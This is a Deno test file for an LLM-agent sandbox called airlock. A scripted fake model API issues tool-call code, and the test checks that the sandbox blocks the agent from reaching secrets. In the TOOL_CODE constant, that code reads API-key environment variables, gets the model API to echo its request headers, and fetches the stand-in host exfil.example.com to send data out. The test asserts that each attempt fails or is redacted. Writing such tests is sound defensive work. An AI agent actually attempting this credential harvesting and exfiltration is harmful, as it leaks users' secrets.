/**
 * examples/llm_agent end to end against a fake OpenAI-compatible model API:
 * HTTPS on 127.0.0.1 with its own CA, named `api.model.test`. The agent
 * (trusted side) reaches it through a local CONNECT proxy that maps the
 * name; the sandbox reaches it through airlock's injector with `connectTo`.
 *
 * The fake model is scripted: its first reply is a tool call whose code
 * computes a number, tries to read the key from the environment, and calls
 * the model API from inside the sandbox to print the request headers the
 * API saw; its second reply is a final answer built from the tool result.
 */

import assert from "node:assert/strict";
import { CertificateAuthority } from "../injector/ca.ts";
import { type AgentEvent, runAgent } from "../examples/llm_agent/agent.ts";
import {
  type ChatMessage,
  ModelApiError,
} from "../examples/llm_agent/model_client.ts";
import type { ToolRun } from "../examples/llm_agent/run_code_tool.ts";

const MODEL_HOST = "api.model.test";
const MARKER = "[airlock:redacted]";

const TOOL_CODE = `
const squares = Array.from({ length: 10 }, (_, i) => (i + 1) ** 2);
console.log("RESULT=" + squares.reduce((a, b) => a + b, 0));
for (const name of ["OPENAI_API_KEY", "MODEL_API_KEY"]) {
  try {
    console.log("env", name, Deno.env.get(name));
  } catch (error) {
    console.log("env refused:", error.name);
  }
}
const res = await fetch("https://${MODEL_HOST}/v1/models");
console.log("model API status", res.status);
console.log("headers the model API saw:", await res.text());
try {
  await fetch("https://exfil.example.com/collect");
  console.log("exfil ALLOWED");
} catch (error) {
  console.log("exfil refused:", error.name);
}
`;

/** One request the fake model API received. */
interface Seen {
  method: string;
  path: string;
  authorization: string | null;
  body: string;
}

/** The fake model API: scripted by the request's `model`. */
async function startFakeModel(dir: string, key: string) {
  const ca = await CertificateAuthority.create({ commonName: "fake model CA" });
  const leaf = await ca.leafFor(MODEL_HOST);
  const caFile = `${dir}/model-ca.pem`;
  await Deno.writeTextFile(caFile, ca.certificatePem);
  const seen: Seen[] = [];
  const reply = (message: Record<string, unknown>, finish: string) =>
    Response.json({
      id: `chatcmpl-${seen.length}`,
      object: "chat.completion",
      choices: [{
        index: 0,
        message: { role: "assistant", ...message },
        finish_reason: finish,
      }],
    });
  const toolCall = (id: string, code: string) =>
    reply({
      content: null,
      tool_calls: [{
        id,
        type: "function",
        function: { name: "run_code", arguments: JSON.stringify({ code }) },
      }],
    }, "tool_calls");

  const server = Deno.serve({
    hostname: "127.0.0.1",
    port: 0,
    cert: leaf.certPem,
    key: leaf.keyPem,
    onListen() {},
  }, async (req) => {
    const path = new URL(req.url).pathname;
    const body = await req.text();
    const authorization = req.headers.get("authorization");
    seen.push({ method: req.method, path, authorization, body });
    if (authorization !== `Bearer ${key}`) {
      return Response.json({ error: { message: "Incorrect API key" } }, {
        status: 401,
      });
    }
    if (req.method === "GET" && path === "/v1/models") {
      // A debugging echo, as some gateways have: every request header.
      return Response.json({
        object: "list",
        data: [{ id: "fake-model", object: "model" }],
        request_headers: Object.fromEntries(req.headers),
      });
    }
    if (req.method !== "POST" || path !== "/v1/chat/completions") {
      return new Response("not found", { status: 404 });
    }
    const request = JSON.parse(body) as {
      model: string;
      messages: ChatMessage[];
      tools?: { function: { name: string } }[];
    };
    const toolMessages = request.messages.filter((m) => m.role === "tool");
    if (request.model === "always-tools") {
      // Never answers: every reply is another (broken) tool call.
      return toolCall(`call_${toolMessages.length + 1}`, "const = ;");
    }
    if (toolMessages.length === 0) {
      assert.equal(request.tools?.[0]?.function.name, "run_code");
      return toolCall("call_1", TOOL_CODE);
    }
    const last = toolMessages.at(-1) as { content: string };
    const result = JSON.parse(last.content) as { stdout?: string };
    const sum = /RESULT=(\d+)/.exec(result.stdout ?? "")?.[1] ?? "unknown";
    return reply({
      content: `The sum of the first ten squares is ${sum}.`,
    }, "stop");
  });

  return {
    port: server.addr.port,
    caPem: ca.certificatePem,
    caFile,
    seen,
    close: () => server.shutdown(),
  };
}

/**
 * A CONNECT proxy on 127.0.0.1 that sends every tunnel to `port`: how the
 * trusted side reaches `api.model.test` without DNS.
 */
function startConnectProxy(port: number) {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const conns = new Set<Deno.Conn>();
  const tunnels: Promise<unknown>[] = [];
  const decoder = new TextDecoder();
  const tunnel = async (conn: Deno.Conn) => {
    const buffer = new Uint8Array(8192);
    let head = "";
    while (!head.includes("\r\n\r\n")) {
      const n = await conn.read(buffer);
      if (n === null) return;
      head += decoder.decode(buffer.subarray(0, n));
    }
    assert.match(head, new RegExp(`^CONNECT ${MODEL_HOST}:443 `));
    const upstream = await Deno.connect({ hostname: "127.0.0.1", port });
    conns.add(upstream);
    await conn.write(new TextEncoder().encode("HTTP/1.1 200 OK\r\n\r\n"));
    await Promise.all([
      conn.readable.pipeTo(upstream.writable).catch(() => {}),
      upstream.readable.pipeTo(conn.writable).catch(() => {}),
    ]);
  };
  const accepting = (async () => {
    for await (const conn of listener) {
      conns.add(conn);
      tunnels.push(tunnel(conn).catch(() => {}));
    }
  })();
  return {
    url: `http://127.0.0.1:${(listener.addr as Deno.NetAddr).port}`,
    async close() {
      listener.close();
      for (const conn of conns) {
        try {
          conn.close();
        } catch { /* already closed */ }
      }
      await accepting.catch(() => {});
      await Promise.all(tunnels);
    },
  };
}

/** Fake model, proxy, HTTP client and a workspace directory. */
async function setup(key: string) {
  const dir = await Deno.makeTempDir({ prefix: "airlock-example-agent-" });
  await Deno.chmod(dir, 0o755);
  const model = await startFakeModel(dir, key);
  const proxy = startConnectProxy(model.port);
  const httpClient = Deno.createHttpClient({
    caCerts: [model.caPem],
    proxy: { url: proxy.url },
  });
  return {
    dir,
    model,
    options: {
      baseUrl: `https://${MODEL_HOST}`,
      httpClient,
      tmpDir: dir,
      sandbox: {
        timeoutMs: 20_000,
        upstream: {
          connectTo: [`${MODEL_HOST}:443:127.0.0.1:${model.port}`],
          caCerts: [model.caFile],
        },
      },
    },
    async [Symbol.asyncDispose]() {
      httpClient.close();
      await proxy.close();
      await model.close();
      await Deno.remove(dir, { recursive: true });
    },
  };
}

function randomKey(): string {
  return `sk-fake-${crypto.randomUUID().replaceAll("-", "")}`;
}

Deno.test("llm_agent: the loop runs the model's code in airlock and answers from the tool result; the key reaches the model API but never the sandbox", async () => {
  const key = randomKey();
  await using env = await setup(key);
  const events: AgentEvent[] = [];
  const result = await runAgent({
    ...env.options,
    apiKey: key,
    model: "scripted",
    task: "What is the sum of the squares of 1..10?",
    onEvent: (event) => events.push(event),
  });

  // The loop completed with an answer built from the tool's output.
  assert.equal(result.status, "answer");
  assert.equal(result.steps, 2);
  assert.equal(result.answer, "The sum of the first ten squares is 385.");

  // The tool result reached the model, as a tool message for call_1.
  const chats = env.model.seen.filter((s) => s.path === "/v1/chat/completions");
  assert.equal(chats.length, 2);
  const second = JSON.parse(chats[1]!.body) as { messages: ChatMessage[] };
  const toolMessage = second.messages.find((m) => m.role === "tool") as
    | { tool_call_id: string; content: string }
    | undefined;
  assert.ok(toolMessage, "a tool message was sent");
  assert.equal(toolMessage.tool_call_id, "call_1");
  const output = JSON.parse(toolMessage.content) as {
    exitCode: number;
    stdout: string;
    network: string[];
    denied: string[];
  };
  assert.equal(output.exitCode, 0, toolMessage.content);
  assert.match(output.stdout, /^RESULT=385$/m);
  assert.match(output.stdout, /^model API status 200$/m);
  // The sandbox's environment is readable whole and holds only airlock's
  // variables: the key is not there, under either name.
  assert.match(output.stdout, /^env OPENAI_API_KEY undefined$/m);
  assert.match(output.stdout, /^env MODEL_API_KEY undefined$/m);
  assert.doesNotMatch(output.stdout, /^env refused/m);
  assert.match(output.stdout, /^exfil refused: NotCapable$/m);
  // The model API echoed the injected header: the sandbox got the marker.
  assert.ok(output.stdout.includes(MARKER), output.stdout);
  assert.ok(
    output.network.some((line) =>
      line.startsWith(`GET https://${MODEL_HOST}/v1/models -> allow 200`) &&
      /injected: authorization/i.test(line)
    ),
    output.network.join("\n"),
  );
  assert.ok(
    output.network.some((line) => /echoed an injected secret/.test(line)),
    output.network.join("\n"),
  );
  assert.ok(
    output.denied.some((line) => line.startsWith("net exfil.example.com:443")),
  );

  // The key reached the fake server on every harness-side request and on
  // the sandbox's request (added by the injector).
  for (const chat of chats) assert.equal(chat.authorization, `Bearer ${key}`);
  const fromSandbox = env.model.seen.filter((s) => s.path === "/v1/models");
  assert.equal(fromSandbox.length, 1);
  assert.equal(fromSandbox[0]!.authorization, `Bearer ${key}`);

  // ... but in no byte the sandbox produced, and in nothing sent to the
  // model (tool messages included).
  const tools = events.filter((e) => e.type === "tool").map((e) =>
    (e as { run: ToolRun }).run
  );
  assert.equal(tools.length, 1);
  const run = tools[0]!.result;
  assert.ok(run);
  const bare = key.slice("sk-fake-".length);
  for (const bytes of [run.stdoutBytes, run.stderrBytes]) {
    const text = new TextDecoder("latin1").decode(bytes);
    assert.ok(!text.includes(key) && !text.includes(bare), "sandbox output");
  }
  for (const chat of chats) {
    assert.ok(!chat.body.includes(key) && !chat.body.includes(bare));
  }
  for (const message of result.messages) {
    assert.ok(!JSON.stringify(message).includes(bare));
  }
});

Deno.test("llm_agent: stops after maxSteps; code that does not compile comes back as a tool error", async () => {
  const key = randomKey();
  await using env = await setup(key);
  const result = await runAgent({
    ...env.options,
    apiKey: key,
    model: "always-tools",
    task: "Loop forever",
    maxSteps: 3,
  });
  assert.equal(result.status, "max-steps");
  assert.equal(result.answer, null);
  assert.equal(result.steps, 3);
  const toolMessages = result.messages.filter((m) => m.role === "tool");
  assert.equal(toolMessages.length, 3);
  for (const message of toolMessages) {
    assert.match(message.content, /Cannot bundle the program/);
  }
});

Deno.test("llm_agent: a model API error is a ModelApiError with the status, without the key", async () => {
  const key = randomKey();
  await using env = await setup(key);
  await assert.rejects(
    runAgent({
      ...env.options,
      apiKey: `${key}-wrong`,
      model: "scripted",
      task: "Hi",
    }),
    (error) => {
      assert.ok(error instanceof ModelApiError);
      assert.equal(error.status, 401);
      assert.match(error.message, /Incorrect API key/);
      assert.ok(!error.message.includes(key));
      return true;
    },
  );
  // No tool call happened, so no sandbox was ever made.
  assert.deepEqual(
    [...Deno.readDirSync(env.dir)].map((e) => e.name),
    ["model-ca.pem"],
  );
});
